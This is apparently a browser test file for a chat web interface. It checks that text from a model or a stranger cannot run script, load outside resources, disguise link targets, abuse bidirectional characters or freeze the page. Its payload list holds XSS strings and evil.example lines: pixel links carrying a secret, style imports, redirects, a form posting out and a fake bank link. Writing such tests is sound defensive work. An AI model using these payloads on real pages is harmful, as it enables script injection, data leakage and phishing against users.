// What a model or a stranger may write to hurt who reads it. The texts go the whole way: model, gateway, page.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { closeAll, isHere, Screen } from "./browser.mjs";
import { Setup } from "./gateway.mjs";

const chromium = { skip: isHere ? false : "Chromium is not here" };

let setup;
before(async () => {
  if (isHere) setup = await Setup.start();
});
after(async () => {
  await closeAll();
  await setup?.stop();
});

const SCRIPTS = [
  "<script>window.hacked=1</script>",
  '<img src=x onerror="window.hacked=1">',
  "<svg/onload=window.hacked=1>",
  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
  '<a href="javascript:window.hacked=1">x</a>',
  "[x](javascript:window.hacked=1)",
  "[x](JaVaScRiPt:window.hacked=1)",
  "[x](java\tscript:window.hacked=1)",
  "[x](data:text/html,<script>window.hacked=1</script>)",
  "[x](vbscript:msgbox)",
  "[x](<javascript:alert(1)>)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "![x](https://evil.example/pixel.png?secret)",
  "![x](//evil.example/pixel.png)",
  "![x](http://evil.example/__openclaw__/media/abc)",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><input name=q></form>",
  '```"><script>window.hacked=1</script>\n</code></pre><script>window.hacked=1</script>\n```',
  "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [y](javascript:window.hacked=1) | c |",
  "`<script>window.hacked=1</script>`",
  "&lt;script&gt;window.hacked=1&lt;/script&gt;",
  '<x onclick="window.hacked=1" style="position:fixed;inset:0">cover</x>',
  "# <script>window.hacked=1</script>",
  "- [x] <script>window.hacked=1</script>",
  'https://evil.example/"><script>window.hacked=1</script>',
];

async function shown(text, sign) {
  const screen = await Screen.open(setup.origin);
  const { key } = await setup.call("sessions.create", {});
  await screen.signIn(setup.token, `/chat/${encodeURIComponent(key)}`);
  await screen.say(setup.text("hostile", { text: `${text}\n\n${sign}`, piece: 4096 }));
  await screen.shows(sign);
  return screen;
}

test("no text runs, loads, covers or leads anywhere by itself", chromium, async () => {
  const screen = await shown(SCRIPTS.join("\n\n"), "the end of it");
  const found = await screen.page.evaluate(() => ({
    hacked: "hacked" in window,
    elements: [...document.querySelectorAll(".answered :is(script, iframe, svg [onload], style, link, meta, base, form, object, embed, img)")].map(
      (each) => each.outerHTML,
    ),
    attributes: [...document.querySelectorAll(".answered *")]
      .flatMap((each) => [...each.attributes])
      .filter(({ name }) => /^on|^style$|^srcdoc$/.test(name)).length,
    addresses: [...document.querySelectorAll(".answered a[href]")].map((each) => each.protocol),
    rels: [...document.querySelectorAll(".answered a[target]")].every((each) => each.rel.includes("noopener")),
  }));

  assert.deepEqual({ ...found, addresses: undefined }, { hacked: false, elements: [], attributes: 0, rels: true, addresses: undefined });
  assert.ok(
    found.addresses.every((protocol) => ["http:", "https:"].includes(protocol)),
    `${found.addresses}`,
  );
  await screen.close();
});

test("a link says where it leads when its text says otherwise", chromium, async () => {
  const screen = await shown("[https://bank.example](https://evil.example/login) and [words](https://evil.example/other)", "so it is");

  assert.match(await screen.page.locator(".answered").innerText(), /https:\/\/bank\.example \(evil\.example\) and words\b(?! \()/);
  await screen.close();
});

test("marks that turn text around are seen in code", chromium, async () => {
  const screen = await shown('```\nif (level != "user\u202e \u2066// admin\u2069 \u2066") {\n```\n\n`a\u202eb`', "turned");

  const text = await screen.page.locator(".answered").innerText();
  assert.match(text, /U\+202E/);
  assert.ok(!/[\u202e\u2066]/.test(text), "none is left that acts");
  await screen.close();
});

const HUGE = {
  "a line of a megabyte": "word ".repeat(200_000),
  "a word of half a megabyte": "x".repeat(500_000),
  "ten thousand quotes in each other": `${"> ".repeat(10_000)}x`,
  "a wall of brackets": "[".repeat(50_000),
  "a list of ten thousand": "- item\n".repeat(10_000),
};

for (const [name, text] of Object.entries(HUGE)) {
  test(`the page stays alive with ${name}`, chromium, async () => {
    const screen = await Screen.open(setup.origin);
    const { key } = await setup.call("sessions.create", {});
    await setup.call("chat.inject", { sessionKey: key, message: text });
    await setup.call("chat.inject", { sessionKey: key, message: "behind it" });
    await screen.signIn(setup.token, `/chat/${encodeURIComponent(key)}`);
    await screen.shows("behind it");
    await screen.field.fill("it still takes what is typed");

    assert.equal(await screen.field.inputValue(), "it still takes what is typed");
    await screen.close();
  });
}
